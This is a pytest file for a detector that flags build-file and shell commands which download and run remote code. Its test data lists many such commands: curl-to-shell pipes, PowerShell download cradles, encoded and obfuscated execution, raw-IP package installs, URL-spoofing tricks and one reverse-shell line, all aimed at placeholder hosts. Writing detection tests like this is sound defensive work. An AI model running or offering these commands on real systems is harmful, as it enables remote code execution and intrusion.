# ruff: noqa: E501 - one line for each case is easier to read
"""Commands that fetch and run: one vocabulary for build files, Python's commands and what was seen running."""

from __future__ import annotations

import time

import pytest

from gate.languages.commands.addresses import Origin, origin_of
from gate.languages.commands.fetched import in_text, worst_fetch
from gate.signals.programs import command_risk as seen

TOLD = (
    "c\\url https://x.invalid | sh",
    "cu''rl https://x.invalid | sh",
    "$(which curl) https://x.invalid | sh",
    "curl https://x.invalid/i.sh --output i.sh; bash < i.sh",
    "nc x.invalid 80 | sh",
    "curl https://x.invalid/i.sh | sh",
    "RUN curl -sSL https://x.invalid/i.sh | sh",
    "wget -qO- https://x.invalid/i | sudo -E bash -",
    "bash <(curl -s https://x.invalid/i)",
    'sh -c "$(curl -fsSL https://x.invalid/i)"',
    'python -c "$(curl https://x.invalid/i)"',
    "python3 <(curl https://x.invalid/i)",
    "iwr https://x.invalid/i.ps1 | iex",
    "iex (iwr https://x.invalid/i.ps1)",
    "iex ((New-Object System.Net.WebClient).DownloadString('https://x.invalid/i.ps1'))",
    "curl -o f https://x.invalid/i; chmod +x f; ./f",
    "RUN curl -fsSLo /tmp/i.sh https://x.invalid/i.sh && sh /tmp/i.sh",
    "RUN wget https://x.invalid/i.sh && bash i.sh",
    "echo aWQ= | base64 -d | sh",
    'bash -c "$(echo aWQ= | base64 -d)"',
    'eval "$(curl -s https://x.invalid/i)"',
    '    session.run("sh", "-c", "curl https://x.invalid/i.sh | sh", external=True)',
    '    session.run("bash", "-c", "bash <(curl https://x.invalid/i)", external=True)',
    'RUN ["sh", "-c", "curl https://x.invalid/i.sh | sh"]',
    '    "postinstall": "curl -s https://x.invalid/i.sh | node"',
    "curl -H 'Accept: text/plain; q=1' https://x.invalid | sh",
    "curl x.invalid/a | tee f | sh",
    'curl https://x.invalid/a | env A="1 2" bash',
    "(curl https://x.invalid/a; echo) | sh",
    "source <(curl -s https://x.invalid/i)",
    ". <(curl -s https://x.invalid/i)",
    "commands = bash -c 'curl https://x.invalid/i.sh | sh'",
    "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://198.51.100.20\").read())'",
    'bash -c "`curl https://x.invalid/i`"',
    'bash -c "set -e; $(curl https://x.invalid/i)"',
    "curl https://x.invalid | python3 -",
    "curl https://x.invalid | xargs -0 sh -c",
    "curl https://x.invalid | sh 2>&1",
    "curl https://x.invalid | $SHELL",
    'bash <<< "$(curl https://x.invalid/i)"',
    "ADD https://x.invalid/i.sh /tmp/i.sh && sh /tmp/i.sh",
    "powershell -enc aWQ9aWQ9aWQ9aWQ9aWQ9aWQ9",
    "curl https://x.invalid/i.py | python",
    "echo 'a # b' ; curl https://x.invalid | sh",
    "x='echo '; curl https://x.invalid|sh; echo 'done'",
    'execute_process(COMMAND sh -c "curl -fsSL http://198.51.100.20/a.sh | sh")',
    '{"postCreateCommand": "curl -fsSL http://198.51.100.20/a.sh | sh"}',
    'curl -fsSL "https://x.invalid/$(uname -m)/i.sh" | sh',
    "RUN set -eux; curl -fsSL https://x.invalid/i.sh -o i.sh; sh i.sh; rm i.sh",
    "cmd: curl -sL https://x.invalid | sh -s -- -b /usr/local/bin v1.2",
    'x=$(curl https://x.invalid); eval "$x"',
    "curl -k https://sh.rustup.rs | sh",
    "curl https://astral.sh@x.invalid/uv/install.sh | sh",
    "python3 -c \"import base64; exec(base64.b64decode('aWQ='))\"",
)
_MORE: tuple[str, ...] = (
    "echo uryyb | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "echo uryyb | tr a-z n-za-m | bash",
    "RUN cat x | tr '!-~' 'P-~!-O' | sh",
    "echo x | tr bcdefghijklmnopqrstuvwxyza abcdefghijklmnopqrstuvwxyz | sh",
    "echo 'ohce' | rev | sh",
    "rev <<< 'ohce' | sh",
    "rev x.txt | bash",
    "curl https://x.invalid/i | xargs -I{} sh -c {}",
    'curl https://x.invalid/i | xargs -n1 -I{} sh -c "{}"',
    "curl https://x.invalid/i | xargs -I % bash -c 'eval %'",
    "curl https://x.invalid/i | xargs -n1 sh -c '$0'",
    "curl https://x.invalid/i | parallel -j 4",
    "curl https://x.invalid/i | sh -s -- -n",
    "curl https://x.invalid/i | sh -s '<<E'",
    "curl https://x.invalid/i | sh -s '<<E|'",
    "curl https://x.invalid/i | bash -n +n",
    "iwr https://x.invalid/i | pwsh -nop -",
)
_MORE += (
    'x=$(curl https://x.invalid); bash -s <<< "$x"',
    "bash < /dev/tcp/203.0.113.5/80",
    "cat < /dev/tcp/203.0.113.5/80 | sh",
    "openssl s_client -quiet -connect 203.0.113.5:443 | sh",
    "http --body GET https://x.invalid/i.sh | sh",
    "lynx -source https://x.invalid/i | sh",
    "GET https://x.invalid/i | sh",
    "socat - TCP:203.0.113.5:80 | sh",
    "curl -s --resolve get.docker.com:443:203.0.113.5 https://get.docker.com | sh",
    "curl -s --connect-to ::203.0.113.5: http://localhost/i | sh",
    "RUN pip install http://203.0.113.5/p.tar.gz",
    "RUN pip install --index-url http://203.0.113.5/simple x",
    'session.run("pip", "install", "git+http://x.invalid/p.git")',
    "RUN npm i http://203.0.113.5/p.tgz",
    "npx -y http://203.0.113.5/p.tgz",
    "rpm -i http://203.0.113.5/x.rpm",
    "RUN git clone https://x.invalid/r /r && /r/install.sh",
    "git clone --depth 1 https://x.invalid/r.git && sh ./r/a/install.sh",
)
NOT_TOLD = (
    'output=$(curl https://api.example/q); x=$(jq . <<<"$output")',
    "curl -o $@ https://x.example/a.proto; $(GO) mod tidy",
    "pip install https://github.com/a/b/releases/download/v1/c.whl",
    "pip install --index-url https://download.example/whl/cpu x",
    "pip install --proxy http://proxy.example:8080 x",
    "pip install -i http://localhost:3141/simple x",
    "npm install --registry http://verdaccio:4873",
    "npx wait-on http://app.example:3000",
    "npm run test -- --url http://app.example/",
    "uv run pytest --base-url http://web.example:8000",
    "npm ci; npx lighthouse http://app.example",
    "git clone https://x.example/r.git && cd src && ./configure",
    "git clone https://x.example/r.git /r; cp /r/a.json b.json; python setup.py",
    "curl -o /usr/local/bin/tool https://x.example/tool && ls tool",
    "curl -o data/tool https://x.example/tool; tool run",
    "curl -o a.json https://x.example/a.json; mv a.json b.json; cat b.json",
    "find . -name '*.sh' | tr '\\n' '\\0' | xargs -0 -n1 bash -n",
    "echo A | tr a-z A-Z | sh",
    "echo A | tr '[:upper:]' '[:lower:]' | sh",
    "git log | tr : ' ' | tr -d a | bash",
    "ls | rev | cut -d. -f2 | rev | sh",
    "git describe | cut -d- -f rev-1 | sh",
    "git rev-parse HEAD | sh",
    "git rev-list --all | xargs -n1 sh -c 'git show $0'",
    "ls | rev | cut -d. -f2 | rev | xargs -n1 bash run.sh",
    "curl -s $URL | xargs -P4 -I% bash scripts/one.sh %",
    "curl -s https://x.example/a | xargs -I{} bash -c 'curl -sO https://x.example/{}'",
    "curl -s $URL | bash -n",
    "curl https://x.example/j | python3 - <<'E'",
    "curl https://x.example/j | python3 - a.json <<-E",
    "curl https://api.example | jq .",
    "curl -s https://x.example/a | python -m json.tool",
    'curl -s https://x.example/a | python3 -c "import json,sys; print(json.load(sys.stdin))"',
    "curl -o tool https://get.example/tool",
    "npm test -- --watch=false | tee log.txt",
    "session.run('python', '-c', 'import pricing; print(pricing.__version__)')",
    "c.run('curl -fsS http://localhost:8000/health')",
    "HEALTHCHECK CMD python -c \"import urllib.request; urllib.request.urlopen('http://localhost:8000/health')\"",
    "HEALTHCHECK CMD curl -f http://localhost/ || exit 1",
    'test: ["CMD", "curl", "-f", "http://localhost:8080"]',
    "RUN apt-get update && apt-get install -y curl bash && rm -rf /var/lib/apt/lists/*",
    "bash -c 'x=$(curl https://api.example | jq .tag)'",
    "VERSION=$(curl -s https://api.example/latest); echo $VERSION",
    "RUN curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/k.gpg",
    "RUN curl -sSL https://x.example/a.tar.gz | tar -xz -C /opt",
    'echo "Install with: curl https://x.example | sh"',
    "python3 setup.py build | tee log",
    "cat foo | sh",
    "# curl https://x | sh",
    "sh run.sh curl | tee x",
    "curl https://x.example/cfg | kubectl apply -f -",
    "echo $X | base64 -d > key.json",
    'bash -c "docker run curlimages/curl"',
    "- run: bash scripts/curl.sh",
    "while ! curl -s http://localhost; do sleep 1; done; sh x.sh",
    'bash -c "until curl -f http://localhost:8080; do sleep 1; done"',
)


@pytest.mark.parametrize("command", TOLD + _MORE)
def test_told(command: str) -> None:
    assert worst_fetch(command) is not None
    (one,) = in_text(f"# first\n\n{command}\n")
    assert (one.first, one.last) == (3, 3)
    assert one.origin > Origin.VENDOR


@pytest.mark.parametrize("command", NOT_TOLD)
def test_not_told(command: str) -> None:
    assert in_text(command) == []


@pytest.mark.parametrize(
    ("text", "first", "last", "how"),
    [
        ("a\ncurl -s https://x.invalid/a \\\n  # why\n  | sh\nb", 2, 4, "piped"),
        ("curl -s https://x.invalid/a |\n  sh", 1, 2, "piped"),
        ("curl -fsSLO https://x.invalid/a.sh\necho b\nsh ./a.sh", 1, 3, "run"),
        ("curl -fsSL https://x.invalid/a > /tmp/a\nsudo bash -x /tmp/a", 1, 2, "run"),
        ("wget -qO a.sh https://x.invalid/z\nchmod 755 a.sh\n./a.sh", 1, 3, "run"),
        ("wget https://x.invalid/tool\nchmod +x tool", 1, 2, "made executable"),
        ("ADD https://x.invalid/a.sh /tmp/\nRUN sh /tmp/a.sh", 1, 2, "run"),
        ('session.run("curl", "-o", "i.sh", URL)\nsession.run("sh", "i.sh")', 1, 2, "run"),
        ('x="$(curl -s https://x.invalid/a)"\nif true; then\n  eval "$x"\nfi', 3, 3, "substituted"),
        ('x=$(wget -qO- https://x.invalid/a)\necho "$x" | bash', 2, 2, "substituted"),
        ("x='\n# '; curl -s https://x.invalid/a | sh", 2, 2, "piped"),
        ("wget x.invalid/a\nchmod +x a\n./a", 1, 3, "run"),
        ("ADD --chmod=755 https://x.invalid/i.sh /usr/local/bin/tool\nRUN tool -v", 1, 2, "run"),
        ('ADD --chmod=755 ["https://x.invalid/i.sh", "/opt/i.sh"]\nRUN ["/opt/i.sh"]', 1, 2, "run"),
        ("ADD https://x.invalid/tool /usr/local/bin/\nCMD tool", 1, 2, "run"),
        ("RUN curl -o /usr/bin/i https://x.invalid/i && chmod 755 /usr/bin/i\nRUN i", 1, 2, "run"),
        ("curl -o /tmp/i https://x.invalid/i\nmv /tmp/i /tmp/j\nsh /tmp/j", 1, 3, "run"),
        ("curl -o i https://x.invalid/i\nsudo install -m 755 i /usr/bin/j\nj", 1, 3, "run"),
        ("curl -o i https://x.invalid/i\ncp i /usr/local/bin\ni --now", 1, 3, "run"),
        ("git clone https://x.invalid/r\nbash r/install.sh", 1, 2, "cloned"),
        ("iwr https://x.invalid/a.ps1 -OutFile a.ps1\npowershell -File a.ps1", 1, 2, "run"),
    ],
)
def test_over_several_lines(text: str, first: int, last: int, how: str) -> None:
    (one,) = in_text(text)
    assert (one.first, one.last, one.how) == (first, last, how)


@pytest.mark.parametrize(
    "text",
    [
        '{"scripts": {"test": "curl -o f https://x.invalid/f; chmod +x f; ./f"}}',
        "session.run('sh', '-c', 'curl -o f https://x.invalid/f && sh f')",
        "curl -H 'a; b' -o f https://x.invalid/f; sh f",
        'RUN ["sh", "-c", "curl -o f https://x.invalid/f\\nsh f"]',
    ],
)
def test_separators_in_quotes(text: str) -> None:
    (one,) = in_text(text)
    assert one.how == "run"


def test_yaml_that_folds_lines() -> None:
    text = "run: >-\n  curl -s\n  https://x.invalid/a\n  | sh\nother: 1\n"
    assert [(one.first, one.last) for one in in_text(text, folding=True)] == [(1, 4)]


@pytest.mark.parametrize(
    ("address", "place"),
    [
        ("https://astral.sh/uv/install.sh", Origin.VENDOR),
        ("https://astral.sh/uv/0.5.1/install.sh", Origin.VENDOR),
        ("https://sh.rustup.rs", Origin.VENDOR),
        ("https://get.docker.com", Origin.VENDOR),
        ("https://deb.nodesource.com/setup_$MAJOR.x", Origin.VENDOR),
        ("https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh", Origin.VENDOR),
        ("https://raw.githubusercontent.com/nvm-sh/../evil/x/i.sh", Origin.NAMED),
        ("https://raw.githubusercontent.com/nvm-sh.evil/x", Origin.NAMED),
        ("https://raw.githubusercontent.com/someone/x/main/i.sh", Origin.NAMED),
        ("https://astral.sh.x.invalid/uv", Origin.NAMED),
        ("https://get.docker.com@x.invalid/", Origin.UNREADABLE),
        ("https://$HOST/i.sh", Origin.UNREADABLE),
        ("https://get.docker.com\\@x.invalid/", Origin.UNREADABLE),
        ("http://get.docker.com", Origin.DOUBTFUL),
        ("get.docker.com", Origin.DOUBTFUL),
        ("https://198.51.100.7/i", Origin.DOUBTFUL),
        ("https://0xc6336407/i", Origin.DOUBTFUL),
        ("https://3325256711/i", Origin.DOUBTFUL),
        ("https://[2001:db8::1]/i", Origin.DOUBTFUL),
        ("https://pastebin.com/raw/abc", Origin.DOUBTFUL),
        ("https://gist.githubusercontent.com/a/b/raw/i.sh", Origin.DOUBTFUL),
        ("http://localhost:8000/i.sh", Origin.LOCAL),
        ("https://[", Origin.UNREADABLE),
    ],
)
def test_places(address: str, place: Origin) -> None:
    assert origin_of(address) is place


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("ARG UV=https://astral.sh/uv/install.sh\nRUN curl -LsSf $UV | sh", Origin.VENDOR),
        ("# UV=https://astral.sh/uv/install.sh\nRUN curl -LsSf $UV | sh", Origin.UNREADABLE),
        (
            "UV=https://astral.sh/uv/install.sh\nUV=https://x.invalid/i\ncurl -LsSf $UV | sh",
            Origin.UNREADABLE,
        ),
        ("H=x.invalid\ncurl https://$H/i | sh", Origin.NAMED),
        ("curl -sSL https://sh.rustup.rs https://x.invalid/i | sh", Origin.NAMED),
        ("curl -sSL --insecure https://sh.rustup.rs | sh", Origin.DOUBTFUL),
        ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", Origin.VENDOR),
        ("curl https://x.invalid/i | base64 -d | sh", Origin.NAMED),
    ],
)
def test_where_it_comes_from(text: str, place: Origin) -> None:
    (one,) = in_text(text)
    assert one.origin is place


SUM = "0123456789abcdef" * 4


@pytest.mark.parametrize(
    ("between", "checked"),
    [
        (f'echo "{SUM}  i.sh" | sha256sum -c -', True),
        (f"S={SUM}\necho $S i.sh | shasum -a 256 --check", True),
        ("gpg --verify i.sh.asc i.sh", True),
        (
            "curl -O https://x.invalid/i.sh.sha256\nsha256sum -c i.sh.sha256",
            False,
        ),  # whoever serves one serves both
        (f'echo "{SUM}  i.sh" | sha256sum -c - || true', False),
        ("sha256sum i.sh", False),
        ("echo checked", False),
    ],
)
def test_a_sum_that_is_checked(between: str, checked: bool) -> None:
    (one,) = in_text(f"curl -O https://x.invalid/i.sh\n{between}\nsh i.sh")
    assert one.checked is checked
    (late,) = in_text(f"curl -O https://x.invalid/i.sh\nsh i.sh\n{between}")
    assert not late.checked


def test_what_was_seen_running_has_the_same_words() -> None:
    assert seen("/bin/sh -c curl -fsSL https://x.invalid/i | sudo -E bash -") == "runs what it downloads"
    assert seen("bash -c source <(curl -s https://x.invalid/i)") == "runs what it downloads"
    assert seen("sh -c echo aWQ= | base64 -d | sh") == "decodes a hidden command"
    assert (
        seen("bash -c curl https://x.invalid/a | bash -i >& /dev/tcp/203.0.113.7/1 0>&1")
        == "opens a shell over the network"
    )
    assert seen("curl -fsS https://x.invalid/health") is None


SAVED = "".join(f"RUN curl -o {c}{c} http://x.invalid/{c}{c}\n" for c in "abcdefghijklmnopqrs")


@pytest.mark.parametrize(
    "text",
    [
        "curl x|" + "sh -c|" * 4000,
        "python -c " * 3000,
        "sh $( " * 5000,
        'sh -c "$(echo ' * 3000,
        "iex " * 4000 + "curl",
        "curl -o f x\n" + "sh -a " * 4000 + "f",
        "'\"" * 8000 + "# curl",
        ")|sh;" * 4000,
        "tr -a tr |sh|" * 2400,
        "curl x" + "|xargs sh -c -I{}" * 2000,
        "curl x" + "|sh '\"" * 5000 + "<<E",
        "rev " * 8000 + "|sh" * 500,
        "RUN git clone " * 2000,
        "cat <<E\n" * 4000,
        "pip install " + "x=http://a.example -" * 1500,
        "npx " + "-x " * 10_000,
        SAVED + "RUN " + "mv aa bb; " * 3000,
        SAVED + "RUN " + "A= " * 10_000 + "aa",
        SAVED + "sh " + "a/" * 15_000,
        SAVED + "RUN " + "chmod x " * 3900 + "qaabbcc q",
        SAVED + "RUN " + "sh -sh " * 4600 + "qaa",
        SAVED + "RUN " + "sh a/" * 6000 + "qaa",
    ],
)
@pytest.mark.slow
def test_texts_made_to_be_slow(text: str) -> None:
    start = time.process_time()
    in_text(text)
    assert time.process_time() - start < 30  # a tenth of that on a quiet machine


def test_the_last_of_many_names_is_found() -> None:
    """Any number of harmless answers may be held before the one that is run."""
    many = "".join(f"A{n}=$(curl -s https://x.invalid/{n})\n" for n in range(200))
    found = in_text(many + 'B=$(curl -s https://x.invalid/i)\neval "$B"\n')
    assert [(one.how, one.first, one.address) for one in found] == [
        ("substituted", 202, "https://x.invalid/i")
    ]


def test_any_number_of_saved_files() -> None:
    """Those that are never run hide none that is."""
    many = "".join(f"curl -o f{n} https://x.invalid/{n}\n" for n in range(200))
    (one,) = in_text(many + "curl -o i https://x.invalid/i\nsh i\n")
    assert (one.how, one.first, one.last) == ("run", 201, 202)


def test_one_name_saved_twice() -> None:
    (one,) = in_text("curl -o i http://203.0.113.5/i\ncurl -o i https://get.docker.com\nsh i\n")
    assert one.origin is Origin.DOUBTFUL
    assert len(in_text("curl -o i https://x.invalid/i\nchmod -R u+x,go-w a i b")) == 1
    assert in_text("curl -o i https://x.invalid/i\nchmod 644 i\nchmod 755 j; ls i") == []


_USAGE = "cat <<EOF\nusage: curl -s https://x.invalid/i | sh\nEOF\n"


def test_a_text_that_is_only_shown() -> None:
    assert in_text(f"#!/bin/sh\nset -e\n{_USAGE}exit 1\n") == []
    assert in_text(f"usage() {{\n{_USAGE.replace('cat', '  cat >&2')}}}\nusage\n") == []
    (one,) = in_text(f"{_USAGE}curl -s https://x.invalid/i -o i; sh i\n")
    assert (one.first, one.how) == (4, "run")


@pytest.mark.parametrize(
    "text",
    [
        f"{{\n{_USAGE}}} | sh\n",
        f"(\n{_USAGE}) > x; sh x\n",
        f"u() {{\n{_USAGE}}}\n. <(u)\n",
        f"u() {{\n{_USAGE}}}\neval $(u)\n",
        f"u() {{\n{_USAGE}}}\nsh -c $(u)\n",
        f"cat() {{ sh; }}\n{_USAGE}",
        f"alias cat=sh\n{_USAGE}",
        f"sh -s \\\n{_USAGE}",
        f"true <<X\n{_USAGE}X\n",
        "x='\ncat <<EOF\n'; curl -s https://x.invalid/i | sh; : '\nEOF\n'",
        "true <<X\ncat <<EOF\nX\ncurl -s https://x.invalid/i | sh\nEOF\n",
        "cat <<EOF\n$(curl -s https://x.invalid/i | sh)\nEOF\n",
        "cat <<EOF\ncurl -s https://x.invalid/i | sh\n",
    ],
)
def test_a_text_that_may_be_run(text: str) -> None:
    assert in_text(text) != []
